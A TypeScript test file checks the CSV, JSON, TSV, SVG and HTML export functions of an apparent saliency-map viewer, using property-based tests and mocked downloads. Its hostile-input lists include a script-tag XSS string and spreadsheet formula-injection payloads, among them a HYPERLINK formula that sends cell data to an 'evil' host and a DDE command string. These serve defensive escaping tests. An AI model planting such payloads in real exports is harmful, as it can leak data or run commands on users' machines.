import fc from "fast-check";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { tag, xml } from "../src/takeaway/svg";
import { type Columns, csv, inert, json, shortest, tsv } from "../src/takeaway/table";
import { pageOf } from "../src/views/takeaway/page";
import { conversation, documentOf, mapOf, mounted, texts } from "./help";

const HOSTILE = [
  "<script>alert(1)</script>",
  "]]>",
  '"quoted", with a comma',
  "two\r\nlines\n",
  "a\u0000b",
  "half \ud83d",
  "\u202eright to left",
  "مرحبا",
  "=1+1",
  "\ufffe\uffff",
  "x".repeat(100_000),
];

/** Texts that a spreadsheet would run; names of classes can be such. */
const FORMULAS = [
  '=HYPERLINK("http://evil/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "+1",
  "-1",
  "-",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\tindented",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
];

const entries = (texts: readonly string[]) => texts.map((text, position) => ({ text, position }));
const made = (columns: readonly (Float32Array | undefined)[]): Columns => columns.map((scores) => () => scores);
const two = made([0, 1].map((col) => Float32Array.from(HOSTILE, (_, row) => (row > col + 3 ? Number.NaN : row + 0.1))));
const table = (texts = HOSTILE, columns = two) =>
  parse(whole(csv(entries(texts), entries(texts.slice(0, columns.length)), columns)));
const ones = (texts: readonly string[]) => made([Float32Array.from(texts, () => 1)]);

/** RFC 4180, read the plain way. */
function parse(text: string): string[][] {
  const records: string[][] = [];
  let [record, field, isQuoted] = [[] as string[], "", false];
  for (let i = 0; i < text.length; i++) {
    const char = text[i] ?? "";
    if (isQuoted && char === '"' && text[i + 1] === '"') field += text[++i];
    else if (char === '"') isQuoted = !isQuoted;
    else if (isQuoted || !/[,\r]/.test(char)) field += char;
    else {
      record.push(field);
      field = "";
      if (char === "\r") {
        records.push(record);
        record = [];
        i++;
      }
    }
  }
  return records;
}
/** The mark that `inert` made, taken away as its comment says. */
const unmarked = (text = "") => text.replace(/^'(?=["' ]*[=+\-@\t\r\n＝＋－＠])/, "");
const whole = (parts: Iterable<string>) => [...parts].join("");

describe("a number", () => {
  it("has nine digits where eight are not enough", () => {
    const needy = 1000 + 2 ** -14; // its neighbours are 0.00006 away
    expect(Math.fround(Number(needy.toPrecision(8)))).not.toBe(needy);
    expect(Math.fround(shortest(needy))).toBe(needy);
  });
  it("is the shortest that is read back as the same float32", () => {
    expect([0.1, 1e-7, 0, 1 / 3, 16777216].map(shortest).map(String)).toEqual([
      "0.1",
      "1e-7",
      "0",
      "0.33333334",
      "16777216",
    ]);
    fc.assert(fc.property(fc.float({ noNaN: true }), (x) => Math.fround(shortest(x)) === x));
  });
});

describe("CSV", () => {
  it("has a line for each visible cell, target by target, and every token as it is", () => {
    const [head, ...lines] = table();
    expect(head?.join()).toBe("row,row_token,row_position,col,col_token,col_position,score,share");
    expect(lines).toHaveLength(4 + 5);
    expect(lines[3]).toEqual(["3", HOSTILE[3], "3", "0", HOSTILE[0], "0", "3.1", expect.stringMatching(/^0\.48/)]);
    expect(
      table(HOSTILE, ones(HOSTILE))
        .slice(1)
        .map(([, name]) => unmarked(name)),
    ).toEqual(HOSTILE);
  });
  it("keeps any text, whatever is in it", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: "binary" }), { minLength: 1, maxLength: 4 }), (list) => {
        const lines = table(list, ones(list)).slice(1);
        expect(lines.map(([, name]) => unmarked(name))).toEqual(list);
      }),
    );
  });
  it("has no text that a spreadsheet would run, and leaves every other one alone", () => {
    const hostile = FORMULAS.flatMap((text) => [text, `  ${text}`, `'${text}`, `"${text}`]);
    const names = table(hostile, ones(hostile)).flatMap(([, row, , , col]) => [row, col]);
    const runs = (name = "") => /^["' ]*[=+\-@\t\r\n＝＋－＠]/.test(name) && !name.startsWith("'");
    expect(names.filter(runs)).toEqual([]);
    expect(hostile.map(inert)).toEqual(hostile.map((text) => `'${text}`));
    const harmless = ["a=1", " the", "'s", "", " ", "1-2", "−1", "–", "#", "'quoted'", "\u00a0", "a\n=1"];
    expect(harmless.map(inert)).toEqual(harmless);
  });
  it("is read back as it was once the marks are taken away, and no two texts become one", () => {
    const begins = fc.array(fc.constantFrom(..."'= +-@\t\r\n＝＋－＠a\""), { maxLength: 6 });
    fc.assert(
      fc.property(
        begins,
        fc.string(),
        (begin, rest) => unmarked(inert(begin.join("") + rest)) === begin.join("") + rest,
      ),
    );
  });
  it("has numbers for numbers, also below zero", () => {
    const [, line] = table(["-1"], made([Float32Array.of(-0.5)]));
    expect(line).toEqual(["0", "'-1", "0", "0", "'-1", "0", "-0.5", "-1"]);
  });
  it("leaves out a column that is not computed, and has no share where there is none", () => {
    const columns = made([
      undefined,
      Float32Array.of(0, 0, Number.NaN),
      Float32Array.of(Number.NEGATIVE_INFINITY, 1, 2),
    ]);
    const lines = table(["a", "b", "c"], columns).slice(1);
    expect(lines.map(([row, , , col, , , score, share]) => [col, row, score, share])).toEqual([
      ["1", "0", "0", ""],
      ["1", "1", "0", ""],
      ["2", "0", "-inf", ""],
      ["2", "1", "1", ""],
      ["2", "2", "2", ""],
    ]);
  });
  it("has the standard errors last, where a column has any, and nothing for one that is not known", () => {
    const columns = made([Float32Array.of(1, 3, Number.NaN), Float32Array.of(1, 1, 1)]);
    const errors = made([Float32Array.of(0.5, Number.NaN, 7), undefined]);
    const list = entries(["a", "b", "c"]);
    const [head, ...lines] = parse(whole(csv(list, list.slice(0, 2), columns, errors)));
    expect(head?.slice(-3)).toEqual(["score", "share", "error"]);
    expect(lines.map((line) => line.at(-1))).toEqual(["0.5", "", "", "", ""]);
  });
  it("comes in parts of one column", () => {
    expect([...csv(entries(HOSTILE), entries(HOSTILE.slice(0, 2)), two)]).toHaveLength(1 + 2);
  });
});

describe("JSON", () => {
  const read = (columns: Columns, seen = [...columns]) =>
    JSON.parse(whole(json({ model: "tiny", foil: null, rows: entries(HOSTILE) }, columns, seen)));
  it("is read back as it was, hostile tokens and all", () => {
    const { model, foil, rows, scores, shares } = read(two);
    expect([model, foil, rows]).toEqual(["tiny", null, entries(HOSTILE)]);
    expect(scores[0].slice(0, 5)).toEqual([0.1, 1.1, 2.1, 3.1, null]);
    expect(shares[0].slice(0, 4).reduce((a: number, b: number) => a + b)).toBeCloseTo(1, 6);
  });
  it("has null for a column that is not computed, and for no number", () => {
    const { scores, shares } = read(made([undefined, Float32Array.of(1, Number.POSITIVE_INFINITY)]));
    expect([scores, shares]).toEqual([
      [null, [1, null]],
      [null, [null, null]],
    ]);
  });
  it("has the standard errors of the scores, if there are any", () => {
    const errors = made([Float32Array.of(0.5, Number.NaN)]);
    const columns = made([Float32Array.of(3, 1)]);
    expect(JSON.parse(whole(json({ model: "tiny" }, columns, columns, errors))).errors).toEqual([[0.5, null]]);
    expect(read(columns).errors).toBeUndefined();
  });
  it("has the shares of what the text is read by", () => {
    const { scores, shares } = read(made([Float32Array.of(3, 1)]), [() => Float32Array.of(4)]);
    expect([scores, shares]).toEqual([[[3, 1]], [[1]]]);
  });
});

describe("a table for a spreadsheet", () => {
  it("is a line a row, whatever is in a cell", () => {
    expect(
      tsv([
        ["a", "b"],
        ["x\ty\nz", 1.5],
      ]),
    ).toBe("a\tb\nx y z\t1.5");
  });
  it("has no text that would be run, and numbers for numbers", () => {
    const lines = tsv(FORMULAS.map((text) => [text, -1.5])).split("\n");
    expect(lines).toHaveLength(FORMULAS.length);
    expect(lines.filter((line) => !/^'.*\t-1\.5$|^ indented\t-1\.5$/.test(line))).toEqual([]);
  });
});

describe("SVG", () => {
  it("is well formed, and its texts are what was said, with signs for what XML has no character for", () => {
    const inside = HOSTILE.map((said) => tag("text", { x: 1.23456, "font-family": '"Segoe UI", <b>' }, xml(said)));
    const file = tag("svg", { xmlns: "http://www.w3.org/2000/svg", fill: undefined }, inside.join(""));
    const read = new DOMParser().parseFromString(file, "application/xml");
    expect(read.querySelector("parsererror, script")).toBeNull();
    expect([...read.querySelectorAll("text")].map(({ textContent }) => textContent)).toEqual(
      HOSTILE.map((said) =>
        said.replace("\u0000", "NUL").replace("\ud83d", "U+D83D").replace("\ufffe\uffff", "\ufffd\ufffd"),
      ),
    );
    const [first] = read.querySelectorAll("text");
    expect([first?.getAttribute("x"), first?.getAttribute("font-family")]).toEqual(["1.23", '"Segoe UI", <b>']);
    expect(read.documentElement.hasAttribute("fill")).toBe(false);
  });
  it("has no character that XML has not", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (said) => {
        // biome-ignore lint/suspicious/noControlCharactersInRegex: they must not be there
        expect(xml(said)).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ud800-\udfff\ufffe\uffff<>"]/u);
      }),
    );
  });
});

describe("the drawer", () => {
  let world: ReturnType<typeof mounted>;
  let saved: { name: string; blob: Blob }[];
  beforeEach(() => {
    saved = [];
    let blob: Blob | null = null;
    vi.spyOn(URL, "createObjectURL").mockImplementation((made) => {
      blob = made as Blob;
      return "blob:x";
    });
    vi.spyOn(URL, "revokeObjectURL").mockImplementation(() => {});
    vi.spyOn(HTMLAnchorElement.prototype, "click").mockImplementation(function (this: HTMLAnchorElement) {
      if (blob !== null) saved.push({ name: this.download, blob });
    });
  });
  afterEach(() => {
    world.life.abort();
    vi.restoreAllMocks();
  });
  function open(messages = conversation()) {
    world = mounted(messages);
    const { el } = world;
    const toggle = [...el.querySelectorAll<HTMLElement>(".sw-drawer-toggle")].find(
      ({ textContent }) => textContent === "Export",
    );
    toggle?.click();
    const button = (label: string) => {
      const found = [...el.querySelectorAll<HTMLElement>(".sw-ways button")].find(
        ({ textContent }) => textContent?.trim() === label,
      );
      if (found === undefined) throw new Error(`no ${label}`);
      return found;
    };
    const take = (label: string) => button(label).click();
    const said = () => el.querySelector(".sw-taken")?.textContent;
    return { ...world, button, take, said };
  }
  const done = () => vi.waitFor(() => expect(saved).toHaveLength(1));

  it("saves the map as CSV and says so", async () => {
    const { take, said } = open();
    take("CSV");
    await done();
    expect(saved[0]?.name).toBe("saliency-tiny-saliency.csv");
    const lines = parse((await saved[0]?.blob.text()) ?? "");
    expect(lines).toHaveLength(1 + 5 + 6 + 7);
    expect(lines[5]).toEqual(["4", " George", "4", "0", " Washington", "5", "0.4", "0.4"]);
    expect(said()).toBe("saliency-tiny-saliency.csv is saved.");
  });
  it("saves it as JSON, by the words that it is read by", async () => {
    const { take, store } = open();
    store.readBy("word");
    take("JSON");
    await done();
    const read = JSON.parse((await saved[0]?.blob.text()) ?? "");
    expect([read.method, read.cols[0].alternatives[1].text, read.view.by]).toEqual(["saliency", " W", "word"]);
  });
  it("has in JSON the shares of what is not hidden, and says what is", async () => {
    const { take, store } = open();
    store.hide({ start: 1, end: 3 });
    take("JSON");
    await done();
    const read = JSON.parse((await saved[0]?.blob.text()) ?? "");
    expect(read.view.left_out).toEqual([[1, 3]]);
    expect(read.shares[0]).toEqual([expect.closeTo(0.2), null, null, 0, expect.closeTo(0.8), null, null]);
    expect(read.scores[0]).toEqual([0.1, 0.2, 0.3, 0, 0.4, null, null]);
  });
  it("says in JSON how the map is looked at, all of it", async () => {
    const { take, store } = open();
    store.readBy("sentence");
    store.open(0);
    store.pool.value = "max";
    store.joint.value = "sum";
    store.pin(1, 2);
    store.hide({ start: 1, end: 3 });
    store.scale.value = "threshold";
    store.threshold.value = 0.25;
    store.measure.value = "raw";
    store.inputs.value = { start: 3, end: 5 };
    take("JSON");
    await done();
    expect(JSON.parse((await saved[0]?.blob.text()) ?? "").view).toEqual({
      by: "sentence",
      units: [0, 1, 2, 3, 4, 5], // the first is shown by its words
      pool: "max",
      pinned: [1, 3],
      joint: "sum",
      left_out: [[1, 3]],
      scale: "threshold",
      threshold: 0.25,
      measure: "raw",
      turned: [3, 5],
    });
  });
  it("saves the page of the target on show by itself, also where no kernel is there", async () => {
    const { take, said, store, model } = open();
    store.pin(1);
    model.connected = false;
    const asked = model.sent.length;
    take("HTML");
    await done();
    expect(saved[0]?.name).toBe("saliency-tiny-saliency.html");
    expect(await saved[0]?.blob.text()).toBe(pageOf(store));
    expect(said()).toBe("saliency-tiny-saliency.html is saved.");
    expect(model.sent).toHaveLength(asked);
  });
  it("says why a page cannot be made, each time it is asked", async () => {
    const { take, store, button, said } = open();
    store.turn({ start: 7, end: 8 }); // the last token, which is no input
    for (const _ of [1, 2]) {
      take("HTML");
      await vi.waitFor(() => expect(button("HTML").getAttribute("aria-disabled")).toBe("false"));
      expect(said()).toBe("HTML: What is chosen feeds no target that is computed: go back to the target, or wait.");
    }
    expect(saved).toEqual([]);
  });
  it("names a file after model and method; whatever a file system might not take is a dash", async () => {
    const { take } = open([
      ...conversation(),
      [documentOf(1, 5, { model: "org/模型 ⁄ Qwen2.5-0.5B_x" })],
      [mapOf("m1", { method: "inseq:lime" })],
    ]);
    take("HTML");
    await done();
    expect(saved[0]?.name).toBe("saliency-org-模型-Qwen2.5-0.5B-x-inseq-lime.html");
  });
  it("copies the column on show as a table", async () => {
    const written: string[] = [];
    vi.spyOn(navigator.clipboard, "writeText").mockImplementation(async (text) => {
      written.push(text);
    });
    const { take, said } = open();
    take("Copy as table");
    await vi.waitFor(() => expect(said()).toBe("5 rows copied."));
    const [head, first] = written[0]?.split("\n").map((line) => line.split("\t")) ?? [];
    expect([head, first?.[0], first?.[3]]).toEqual([["token", "share", "score", "rank"], "The", "4"]);
    expect([first?.[1], first?.[2]].map((n) => Number(n).toFixed(3))).toEqual(["0.100", "0.100"]);
  });
  it("is of a target: not while the question is turned round", () => {
    const { button, store } = open();
    store.turn({ start: 1, end: 2 });
    expect(button("Copy as table").getAttribute("aria-disabled")).toBe("true");
    store.turn(null);
    expect(button("Copy as table").getAttribute("aria-disabled")).toBe("false");
  });
  it("offers nothing that is not there, and says why", () => {
    const { button, take, el } = open(conversation().filter(([{ type }]) => type !== "column"));
    expect(["HTML", "SVG", "CSV", "Copy as table"].map((label) => button(label).getAttribute("aria-disabled"))).toEqual(
      Array(4).fill("true"),
    );
    take("CSV");
    expect(saved).toEqual([]);
    expect(texts(el, ".sw-ways .sw-muted")[3]).toBe("no column is computed yet");
    expect(el.querySelector(".sw-take-away")?.textContent).toContain("0 of 3 columns");
  });
  it("draws no picture of a text that is too long for one", () => {
    const long = Array.from({ length: 3001 }, () => " a");
    const { button, el } = open(conversation(long, 3000, [Array(3000).fill(1)]));
    expect([button("SVG").getAttribute("aria-disabled"), button("CSV").getAttribute("aria-disabled")]).toEqual([
      "true",
      "false",
    ]);
    expect(texts(el, ".sw-ways .sw-muted")[1]).toContain("take HTML or CSV");
  });
});
